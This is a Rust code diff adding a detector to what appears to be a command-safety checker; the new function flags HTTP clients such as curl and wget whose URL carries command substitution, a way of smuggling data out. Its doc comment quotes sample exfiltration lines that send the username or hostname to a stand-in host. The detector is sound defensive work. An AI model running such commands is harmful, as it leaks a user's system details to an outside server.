@@ -555,6 +555,63 @@ pub(super) fn uploads_unnamed_file(c: &Cmd<'_>) -> bool {
     sent && !only_loopback(c)
 }
 
+/// Whether an HTTP client asks another machine for an address that holds
+/// what a command prints here (`curl https://x.example/$(id -un)`,
+/// `LESSOPEN='|curl -s https://x.example/?h=$(hostname) …'`): the request
+/// itself carries it off, whatever the answer. A value in a header, an
+/// output name, and a server on loopback are not that.
+pub(super) fn sends_command_output(c: &Cmd<'_>) -> bool {
+    const NOT_ADDRESS: &[&str] = &[
+        "-H",
+        "--header",
+        "-o",
+        "--output",
+        "-O",
+        "-u",
+        "--user",
+        "-A",
+        "--user-agent",
+        "-b",
+        "--cookie",
+        "-c",
+        "--cookie-jar",
+        "-e",
+        "--referer",
+        "-K",
+        "--config",
+        "--output-document",
+        "-a",
+        "--auth",
+    ];
+    if !c.is(&["curl", "wget", "wget2", "http", "https", "xh", "xhs"]) {
+        return false;
+    }
+    let args = c.args();
+    let sends = args.iter().enumerate().any(|(i, w)| {
+        let v = w.value.as_str();
+        let Some(at) = v.find("$(").or_else(|| v.find('`')) else {
+            return false;
+        };
+        let before = &v[..at];
+        // A host named before the substitution: `scheme://host/…` or
+        // httpie's `host.tld/…`.
+        let address = before.contains("://")
+            || before
+                .split('/')
+                .next()
+                .is_some_and(|h| h.contains('.') && before.contains('/') && !h.starts_with('-'));
+        !w.literal
+            && !w.runs.is_empty()
+            && address
+            && !v.starts_with('-')
+            && !i
+                .checked_sub(1)
+                .and_then(|p| args.get(p))
+                .is_some_and(|p| NOT_ADDRESS.contains(&p.value.as_str()))
+    });
+    sends && !only_loopback(c)
+}
+
 /// Whether every host a client is pointed at is this machine's
 /// (`http://127.0.0.1:8080/up`, httpie's `localhost:8080/up`, `:8080`).
 fn only_loopback(c: &Cmd<'_>) -> bool {
